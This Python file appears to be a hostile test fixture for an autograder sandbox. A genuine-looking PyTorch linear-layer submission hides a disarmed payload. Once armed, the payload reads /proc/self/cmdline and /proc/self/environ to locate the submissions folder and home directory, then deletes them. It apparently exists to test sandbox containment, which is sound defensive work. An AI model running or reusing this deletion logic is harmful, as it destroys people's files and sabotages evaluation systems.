# Hostile: delete what can be found: the folder of submissions (from the grader's command line, or a guess)
# and the home folder (from this process's original environment, as /proc/self/environ showed it before the
# sandbox wiped it, or a guess). Named zz_ so that it is graded last. Armed only in the copy that
# tests/test_hostile.py makes in a temporary folder: grading this file by hand deletes nothing.
import os
import shutil
import sys

import torch
from torch import nn

ARMED = False  # HOSTILE_TEST_ARMED
GUESSED = {}  # HOSTILE_TEST_GUESSED: folders a student could guess; the test fills in the real ones


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        bound = 1.0 / in_features**0.5
        self.weights = nn.Parameter(torch.empty(in_features, out_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        out = x @ self.weights
        return out if self.bias is None else out + self.bias



def targets():
    found = []
    args = list(sys.argv)
    try:
        args += open("/proc/self/cmdline", "rb").read().decode(errors="replace").split("\0")
    except OSError:
        pass
    for previous, arg in zip(args[1:], args[2:]):  # not the interpreter, not an option's value
        if arg.startswith("/") and not previous.startswith("--") and not arg.endswith((".py", ".ipynb")):
            found.append(arg)  # a folder of submissions
    try:
        environ = open("/proc/self/environ", "rb").read().decode(errors="replace").split("\0")
    except OSError:
        environ = []
    homes = [e.split("=", 1)[1] for e in environ if e.startswith("HOME=")] + [os.environ.get("HOME", "")]
    found += [h for h in homes if h and h != "/" and h != os.getcwd()]
    found += GUESSED.get("submissions", []) + GUESSED.get("home", [])
    return list(dict.fromkeys(found))


if ARMED:
    for target in targets():
        try:
            shutil.rmtree(target)
            print(f"DELETED {target}")
        except OSError as exc:
            print(f"could not delete {target}: {exc}")
else:
    print("not armed: nothing deleted")
